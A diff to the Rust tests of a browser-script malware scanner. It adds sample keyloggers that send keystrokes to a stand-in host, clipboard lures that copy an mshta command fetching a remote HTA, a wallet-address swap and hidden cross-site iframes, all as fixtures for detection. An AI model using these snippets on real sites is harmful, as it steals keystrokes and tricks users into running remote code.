@@ -399,10 +399,11 @@ fn a_directory_with_a_fifo_is_walked_in_order_and_the_fifo_is_not_read() {
 }
 
 /// A frame from another site that nobody can see (hidden by style or attribute, or 0-2 px) is
-/// how injected redirection frames load: malicious. The same frame visible, or hidden but from
-/// the page's own site, is not.
+/// how injected redirection frames load, and how conversion tags and sign-in libraries load
+/// theirs: suspicious, with its own reason. The same frame visible has only the frame's reason;
+/// hidden but from the page's own site, none.
 #[test]
-fn an_invisible_frame_from_another_site_is_malicious_and_a_visible_one_is_not() {
+fn an_invisible_frame_from_another_site_has_its_own_reason_and_a_visible_one_does_not() {
     let dir = tempfile::tempdir().unwrap();
     let frame = |name: &str, src: &str, how: &str| {
         let path = dir.path().join(name);
@@ -435,7 +436,7 @@ fn an_invisible_frame_from_another_site_is_malicious_and_a_visible_one_is_not() 
     .enumerate()
     {
         let (verdict, fired) = rules(&frame(&format!("hidden{i}.js"), elsewhere, how));
-        assert_eq!(verdict, "malicious", "{how}: {fired:?}");
+        assert_eq!(verdict, "suspicious", "{how}: {fired:?}");
         assert!(
             fired.contains(&"browser.hidden-iframe-other-site".to_string()),
             "{how}: {fired:?}"
@@ -448,13 +449,18 @@ fn an_invisible_frame_from_another_site_is_malicious_and_a_visible_one_is_not() 
         format!("var f = document.createElement('iframe'); f.src = {elsewhere:?}; document.body.appendChild(f); f.setAttribute('style', 'display:none');"),
     )
     .unwrap();
-    assert_eq!(rules(late.to_str().unwrap()).0, "malicious");
+    let hidden = |p: &Path| {
+        rules(p.to_str().unwrap())
+            .1
+            .contains(&"browser.hidden-iframe-other-site".to_string())
+    };
+    assert!(hidden(&late));
     std::fs::write(
         &late,
         format!("var f = document.createElement('iframe'); f.src = {elsewhere:?}; document.body.appendChild(f); f.style.visibility = 'hidden';"),
     )
     .unwrap();
-    assert_eq!(rules(late.to_str().unwrap()).0, "malicious");
+    assert!(hidden(&late));
     // A visible embed from another site, and an invisible frame of the page's own site.
     let (verdict, fired) = rules(&frame(
         "video.js",
@@ -523,6 +529,23 @@ fn a_keylogger_that_sends_keys_in_batches_is_malicious_and_a_search_box_is_not()
     );
     assert_eq!(v, "malicious", "{fired:?}");
     assert!(fired.contains(&"exfil.keylogger".to_string()), "{fired:?}");
+    // Keys logged as codes, key codes or a JSON array, from body or through `input`.
+    for (i, code) in [
+        "var k = []; document.addEventListener('keydown', function (e) { k.push(e.code);
+           if (k.length > 5) { navigator.sendBeacon('https://k.example/b', k.join(',')); k = []; } });",
+        "var k = []; document.body.addEventListener('keyup', function (e) { k.push(e.keyCode);
+           if (k.length > 5) { fetch('https://k.example/k?d=' + k.join('.')); k = []; } });",
+        "var k = []; window.addEventListener('keypress', function (e) { k.push(e.key);
+           if (k.length > 5) { fetch('https://k.example/j', { method: 'POST', body: JSON.stringify(k) }); k = []; } });",
+        "var b = ''; document.addEventListener('input', function (e) { b += e.data;
+           if (b.length > 5) { new Image().src = 'https://k.example/i?d=' + b; b = ''; } });",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let (v, fired) = verdict(&format!("keys{i}.js"), code);
+        assert_eq!(v, "malicious", "{code}: {fired:?}");
+    }
     let (v, fired) = verdict(
         "search.js",
         "var q = document.createElement('input'); document.body.appendChild(q);
@@ -576,7 +599,7 @@ fn clipboard_lures_and_wallet_swaps_are_malicious_and_copy_buttons_are_not() {
         (
             "poll.js",
             "setInterval(function () { navigator.clipboard.readText().then(function (t) {
-               if (/^(bc1|[13])\\w{25,}$/.test(t)) navigator.clipboard.writeText('0x52908400098527886E0F7030069857D2E4169EE7'); }); }, 500);",
+               if (/^(bc1|[13])\\w{25,}$/.test(t)) navigator.clipboard.writeText('0xdEaD00000000000000000000000000000000bEEF'); }); }, 500);",
         ),
     ] {
         let (v, fired) = verdict(name, code);
@@ -593,6 +616,40 @@ fn clipboard_lures_and_wallet_swaps_are_malicious_and_copy_buttons_are_not() {
         (v.as_str(), fired),
         ("suspicious", vec!["clipboard.command".to_string()])
     );
+    // The ways to copy that clipboard libraries use, and the padding real lures add.
+    let lure = "document.body.insertAdjacentHTML('beforeend', '<p>Press Win + R, then Ctrl + V, then Enter</p>');";
+    for (i, copy) in [
+        "navigator.clipboard.write([new ClipboardItem({ 'text/plain': new Blob([c], { type: 'text/plain' }) })]);",
+        "var h = function (e) { e.clipboardData.setData('text/plain', c); e.preventDefault(); };
+         document.addEventListener('copy', h, { once: true }); document.execCommand('copy');",
+        "if (document.queryCommandSupported('copy')) { var t = document.createElement('textarea');
+           t.value = c; document.body.appendChild(t); t.select(); document.execCommand('copy'); }",
+        "navigator.clipboard.writeText(' '.repeat(5000) + c + ' '.repeat(5000) + '# I am not a robot');",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let code = format!(
+            "{lure} document.addEventListener('click', function () {{ var c = 'mshta https://check.example/v.hta'; {copy} }});"
+        );
+        let (v, fired) = verdict(&format!("lure{i}.js"), &code);
+        assert_eq!(v, "malicious", "{copy}: {fired:?}");
+    }
+    // An install page that says to paste with Ctrl + V into PowerShell: no Run dialog, no lure.
+    let (v, fired) = verdict(
+        "install.js",
+        r#"document.body.innerHTML = '<p>Open PowerShell, paste the command with Ctrl + V and press Enter:</p><pre id=c>powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"</pre><button id=b>Copy</button>';
+           document.getElementById('b').onclick = function () { navigator.clipboard.writeText(document.getElementById('c').textContent); };"#,
+    );
+    assert_eq!(v, "suspicious", "{fired:?}");
+    // A checkout widget that pastes a refund address and copies its own, shown, address.
+    let (v, fired) = verdict(
+        "pay.js",
+        "document.body.innerHTML = '<input id=r><button id=p>Paste</button><code id=a>bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</code><button id=c>Copy</button>';
+         document.getElementById('p').onclick = function () { navigator.clipboard.readText().then(function (t) { document.getElementById('r').value = t; }); };
+         document.getElementById('c').onclick = function () { navigator.clipboard.writeText(document.getElementById('a').textContent); };",
+    );
+    assert_eq!(v, "benign", "{fired:?}");
     let (v, fired) = verdict(
         "donate.js",
         "document.body.innerHTML = '<button id=d>Copy our address</button>';
